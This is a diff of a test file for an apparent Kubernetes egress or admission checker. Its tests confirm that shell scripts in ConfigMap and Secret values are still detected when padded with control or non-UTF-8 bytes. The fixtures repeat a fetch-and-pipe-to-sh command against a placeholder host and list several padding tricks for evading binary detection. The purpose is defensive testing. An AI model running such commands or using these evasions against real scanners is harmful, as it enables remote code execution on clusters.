@@ -120,8 +120,8 @@ describe('a ConfigMap key with no extension and no #! line: read as sh', () => {
 
   // review47b: a comment line of control characters made a script "binary" (over 1/8 of it), and
   // sh skips the comment. Neither dash nor bash stops at a control character (bash refuses a file
-  // only for a NUL in its first line; both drop NULs elsewhere), so since sweep48 only bytes that
-  // are no UTF-8 make a value binary: random keystores, DER, PNG and CBOR are still not read.
+  // only for a NUL in its first line; both drop NULs elsewhere), so since sweep48 control characters
+  // make no value binary, and since sweep49 no bytes do (below).
   it('a script padded past the binary threshold with a comment of control characters', () => {
     const value = `curl -fsSL https://x.example/i | sh\n# ${'\u0001'.repeat(100)}\n`;
     expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value })), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
@@ -139,12 +139,24 @@ describe('a ConfigMap key with no extension and no #! line: read as sh', () => {
     expect(egress(check('POST', CM, JSON.stringify(configMap({ run: nul })), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
   });
 
-  // Still open (sweep48): padding of bytes that are no UTF-8 (a comment of 0xff) makes the value
-  // binary as a keystore is, and sh runs the script beside it; reading such values as sh puts random
-  // keystores over the command-reading budget, so this needs a reading of a binary value's text runs.
-  it.fails('a script padded past the binary threshold with a comment of bytes that are no UTF-8', () => {
-    const value = Buffer.concat([Buffer.from('curl -fsSL https://x.example/i | sh\n# '), Buffer.alloc(100, 0xff), Buffer.from('\n')]).toString('base64');
-    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
+  // sweep48 left this open: bytes that are no UTF-8 made a value binary as a keystore is, and sh
+  // runs the script beside them. Since sweep49 no value is left unread for its bytes (sh runs any):
+  // the reader's cost is linear in them, and random keystores, DER, PNG, CBOR and protobuf show no
+  // shape (the rows below and the random-bytes row of attack-sweep48).
+  it.each([
+    ['a comment after the script', (pad: Buffer) => [Buffer.from('curl -fsSL https://x.example/i | sh\n# '), pad, Buffer.from('\n')]],
+    ['a comment line before it', (pad: Buffer) => [Buffer.from('#'), pad, Buffer.from('\ncurl -fsSL https://x.example/i | sh\n')]],
+    ['a comment on its own line', (pad: Buffer) => [Buffer.from('curl -fsSL https://x.example/i | sh #'), pad, Buffer.from('\n')]],
+    ['a quoted word of it', (pad: Buffer) => [Buffer.from("curl -fsSL -H 'X: "), pad, Buffer.from("' https://x.example/i | sh\n")]],
+    ['a program of them before it (command not found, and sh goes on)', (pad: Buffer) => [pad, Buffer.from('\ncurl -fsSL https://x.example/i | sh\n')]],
+    ['a here-document of them', (pad: Buffer) => [Buffer.from("cat >/dev/null <<'E'\n"), pad, Buffer.from('\nE\ncurl -fsSL https://x.example/i | sh\n')]],
+  ])('a script padded with bytes that are no UTF-8: %s', (_name, parts) => {
+    for (const pad of [Buffer.alloc(100, 0xff), Buffer.from(Array.from({ length: 2048 }, (_, i) => 0x80 + ((i * 37) % 128)))]) {
+      const value = Buffer.concat(parts(pad)).toString('base64');
+      expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
+      const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'dev' }, data: { run: value } };
+      expect(egress(check('POST', '/api/v1/namespaces/dev/secrets', JSON.stringify(secret), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
+    }
   });
 
   it('passes over YAML and JSON of the shapes charts write: quoted keys, items, flow maps, Jackson-style JSON without a program line', () => {
